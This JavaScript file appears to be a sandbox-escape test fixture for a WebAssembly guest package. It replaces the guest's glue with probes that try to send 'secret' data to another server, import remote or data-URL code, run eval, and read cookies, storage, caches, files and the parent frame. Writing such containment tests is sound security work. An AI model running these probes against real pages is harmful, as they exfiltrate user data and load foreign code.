// Stands in for the guest's glue, and does all the harm that it can. It has the exports that the package's code imports
// from `wasm/guest/guest.js` and `guest-factory.js`, so that everything around it is the package as it is.
//
// The module that comes with it (attack.wat) drives the probes one after the other. A probe asks for something that no
// guest may have; what it got, or why it got nothing, is told to the page as bytes, the way a guest's answers are.

// Not written where it is imported: a bundler would take it in.
const DATA = globalThis.String("data:text/javascript,export default 'ran'");

const decoder = new TextDecoder();
const encoder = new TextEncoder();

/** Waits for what may never come. */
const soon = (promise, ms = 2_000) =>
  Promise.race([promise, new Promise((_, fail) => setTimeout(() => fail(new Error("no answer")), ms))]);

/** The event that means success, or a failure if there is an error before. */
const event = (target, name) =>
  soon(
    new Promise((tell, fail) => {
      target[`on${name}`] = () => tell(name);
      target.onerror = () => fail(new Error("an error event"));
    }),
  );

const request = (request) =>
  soon(
    new Promise((tell, fail) => {
      request.onsuccess = () => tell(request.result);
      request.onerror = request.onblocked = () => fail(request.error ?? new Error("blocked"));
    }),
  );

/**
 * What is tried. `far` is another server's address, `near` one on the page's own; what reaches either is counted there,
 * by the name at its end. What is read of the page's is given back.
 */
const probes = {
  fetch: ({ far }) => fetch(`${far}fetch`).then(() => "sent"),
  "fetch, opaque": ({ far }) => fetch(`${far}opaque`, { mode: "no-cors", method: "POST", body: "secret" }),
  "fetch, own origin": ({ near }) => fetch(`${near}fetch`, { credentials: "include" }).then((answer) => answer.text()),
  XMLHttpRequest: ({ far }) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${far}xhr`);
    request.send();
    return event(request, "load");
  },
  WebSocket: ({ far }) => event(new WebSocket(`${far}websocket`.replace(/^http/, "ws")), "open"),
  EventSource: ({ far }) => event(new EventSource(`${far}eventsource`), "open"),
  WebTransport: ({ far }) => soon(new WebTransport(`${far}webtransport`.replace(/^http:/, "https:")).ready),
  importScripts: ({ far }) => importScripts(`${far}importscripts`),
  "import()": ({ far }) => soon(import(`${far}import`)).then(() => "ran"),
  "import() of data": () => soon(import(DATA)).then((module) => module.default),
  "import(), own origin": ({ near }) => soon(import(`${near}import`)).then((module) => String(module.default)),
  FontFace: ({ far }) => soon(new FontFace("x", `url(${far}font)`).load()),
  Image: ({ far }) => (new Image().src = `${far}image`),
  sendBeacon: ({ far }) => navigator.sendBeacon(`${far}beacon`, "secret"),
  RTCPeerConnection: () =>
    new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1" }] }).createDataChannel("x").id,
  "Worker of text": ({ far }) => {
    const text = `fetch("${far}nested").then(() => postMessage(1), () => postMessage(0))`;
    return event(new Worker(URL.createObjectURL(new Blob([text]))), "message");
  },
  SharedWorker: ({ far }) => new SharedWorker(`${far}shared`).port.postMessage("secret"),
  serviceWorker: () => soon(navigator.serviceWorker.register("worker.js")),
  cookie: () => document.cookie,
  cookieStore: () => soon(cookieStore.getAll()).then((cookies) => JSON.stringify(cookies)),
  localStorage: () => localStorage.getItem("key"),
  indexedDB: async () => {
    const database = await request(indexedDB.open("page"));
    return request(database.transaction("store").objectStore("store").get("key"));
  },
  caches: () => soon(caches.match("/cached")).then((answer) => answer.text()),
  "file system": async () => {
    const folder = await soon(navigator.storage.getDirectory());
    return (await (await folder.getFileHandle("file")).getFile()).text();
  },
  BroadcastChannel: () =>
    soon(new Promise((tell) => (new BroadcastChannel("page").onmessage = ({ data }) => tell(data)))),
  locks: () => soon(navigator.locks.query()).then((locks) => JSON.stringify(locks)),
  parent: () => parent.document.title,
  top: () => top.location.href,
  postMessage: () => postMessage("secret"),
  clients: () => clients.matchAll(),
  location: () => `at ${location.href}`,
  eval: () => (0, eval)("'ran'"),
  Function: () => (() => {}).constructor("return 'ran'")(),
  AsyncFunction: () => (async () => {}).constructor("return 'ran'")(),
  "setTimeout of text": () => {
    setTimeout("globalThis.ranText = 'ran'");
    return new Promise((tell, fail) =>
      setTimeout(() => (globalThis.ranText ? tell("ran") : fail(new Error("nothing ran"))), 20),
    );
  },
  SharedArrayBuffer: () => new SharedArrayBuffer(8).byteLength,
  Atomics: () => Atomics.load(new Int32Array(8), 0),
  "scope's prototype": () => Object.getPrototypeOf(globalThis).constructor.prototype.fetch ?? WorkerGlobalScope.name,
};

/** Every name that the global object has, of its own and by its prototypes. */
function globals() {
  const names = [];
  let prefix = "";
  for (let object = globalThis; object && object !== Object.prototype; object = Object.getPrototypeOf(object)) {
    for (const key of Reflect.ownKeys(object)) names.push(prefix + String(key));
    prefix += "prototype.";
  }
  return names.sort();
}

export function instantiate(module) {
  const names = Object.keys(probes);
  const results = {};
  let addresses;
  const reach = {
    count: () => names.length,
    probe(index) {
      const name = names[index];
      results[name] = null;
      // A step of its own, so that what is thrown at once is told like what is thrown later.
      Promise.resolve()
        .then(() => probes[name](addresses))
        .then(
          (value) => (results[name] = `got ${value}`),
          (error) => (results[name] = `${error?.name}: ${error?.message}`),
        );
    },
  };
  const { exports } = new WebAssembly.Instance(module, { reach });
  const commands = {
    attack(given) {
      addresses = given;
      exports.attack();
      return names;
    },
    report: () => (Object.values(results).includes(null) ? null : results),
    globals,
    clock: () => Array.from({ length: 1_000 }, () => performance.now()),
  };
  const deliver = (bytes) => {
    const [name, argument] = JSON.parse(decoder.decode(bytes));
    return encoder.encode(JSON.stringify(commands[name](argument)));
  };
  // What the package asks of a guest's instance beside answers; this one has no meter.
  const guest = { deliver, __destroy_into_raw() {} };
  return { guest, exports, interruptAddress: () => 0, memoryExhausted, runningAddress: () => 0 };
}

// The other form of the same glue: one instance for the whole of a worker.
let only;
export function initSync({ module }) {
  only = instantiate(module).guest;
}
export class Guest {
  deliver(bytes) {
    return only.deliver(bytes);
  }
}
export const memoryExhausted = () => false;
